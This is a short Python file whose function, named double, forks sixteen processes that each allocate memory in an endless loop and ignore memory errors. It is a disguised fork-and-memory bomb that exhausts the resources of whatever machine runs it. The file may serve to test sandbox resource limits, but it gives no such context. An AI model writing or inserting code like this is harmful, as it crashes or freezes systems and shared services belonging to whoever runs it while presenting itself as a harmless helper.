import os


def eat():
    kept = []
    while True:
        try:
            kept.append(os.urandom(2**24))
        except MemoryError:
            pass


def double(x):
    for _ in range(16):
        if os.fork() == 0:
            eat()
    return eat()


answer = 0
